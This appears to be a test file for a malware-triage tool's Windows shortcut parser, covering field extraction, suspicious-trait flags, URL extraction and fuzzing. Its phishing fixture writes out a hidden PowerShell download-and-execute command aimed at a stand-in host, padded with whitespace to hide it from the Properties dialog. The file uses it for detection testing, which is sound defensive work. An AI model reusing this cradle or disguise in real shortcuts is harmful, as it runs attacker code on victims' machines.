import { describe, expect, it } from 'vitest';
import { writeLnk } from '../../../../test/fixtures/samples/writers.js';
import { renderRecord } from '../../render/summary.js';
import { triageBytes } from '../../index.js';
import { mulberry32 } from '../../../util/prng.js';
import { isLnk, parseLnk } from './index.js';

const PHISH = {
  target: 'C:\\Windows\\System32\\cmd.exe',
  args: `${' '.repeat(120)}/c powershell -w hidden -c "iwr hxxp://invoice-cdn.example.net/a.txt | iex"`,
  workDir: '%TEMP%', icon: 'C:\\Windows\\System32\\shell32.dll', iconIndex: 70, show: 7,
  envTarget: '%windir%\\system32\\cmd.exe', machine: 'desktop-8k2l4qp', created: new Date('2026-03-04T10:20:30Z'),
};

describe('Windows shortcuts (.lnk)', () => {
  it('reads target, arguments, working dir, icon, window, machine and times', () => {
    const l = parseLnk(writeLnk(PHISH))!;
    expect(l).toMatchObject({
      target: 'C:\\Windows\\System32\\cmd.exe', target_env: '%windir%\\system32\\cmd.exe', arguments: PHISH.args, working_dir: '%TEMP%',
      icon_location: PHISH.icon, icon_index: 70, show_command: 'minimized', machine_id: 'desktop-8k2l4qp', created: '2026-03-04T10:20:30.000Z', warnings: [],
    });
    expect(l.suspicious).toEqual([
      'runs cmd.exe with arguments',
      'arguments padded with whitespace (hidden from the Properties dialog)',
      'window starts minimized',
      'icon borrowed from shell32.dll',
    ]);
  });

  it('takes the environment-variable target when there is no LinkInfo, and finds nothing odd in a plain shortcut', () => {
    const l = parseLnk(writeLnk({ envTarget: '%ProgramFiles%\\Notepad++\\notepad++.exe', workDir: 'C:\\Users\\ana' }))!;
    expect(l.target).toBe('%ProgramFiles%\\Notepad++\\notepad++.exe');
    expect(l.suspicious).toEqual([]);
  });

  it('is a triage format of its own: details, verdict, the URL in its arguments', () => {
    const r = triageBytes(writeLnk(PHISH), { path: 'Fattura_2026.pdf.lnk', now: 0 });
    expect(r.format).toBe('lnk');
    expect(r.description).toBe('Windows shortcut to C:\\Windows\\System32\\cmd.exe');
    expect((r.details['lnk'] as { machine_id: string }).machine_id).toBe('desktop-8k2l4qp');
    expect(r.iocs.map((i) => `${i.type} ${i.value}`)).toContain('url http://invoice-cdn.example.net/a.txt');
    const text = renderRecord(r);
    expect(text).toContain('SUSPICIOUS (');
    expect(text).toContain('shortcut runs cmd.exe with arguments');
    expect(text).toContain('target C:\\Windows\\System32\\cmd.exe /c powershell -w hidden');
  });

  it('survives every truncation and 2,000 mutations with a partial result, never a throw', () => {
    const good = writeLnk(PHISH);
    for (let n = 0x4c; n < good.length; n++) {
      const l = parseLnk(good.subarray(0, n));
      expect(l).not.toBeNull();
    }
    expect(parseLnk(good.subarray(0, 0x60))!.warnings.map((w) => w.code)).toContain('lnk-truncated');
    const rnd = mulberry32(7);
    for (let k = 0; k < 2000; k++) {
      const m = Buffer.from(good);
      for (let f = 0; f < 1 + Math.floor(rnd() * 6); f++) {
        const at = 0x14 + Math.floor(rnd() * (m.length - 0x18));
        if (rnd() < 0.5) m[at] = Math.floor(rnd() * 256);
        else m.writeUInt32LE(Math.floor(rnd() * 0xffffffff), Math.min(at, m.length - 4));
      }
      const l = parseLnk(m);
      expect(l === null || typeof l.show_command === 'string').toBe(true);
    }
    expect(isLnk(Buffer.from('L\0\0\0not a shortcut at all, just text'))).toBe(false);
  });
});
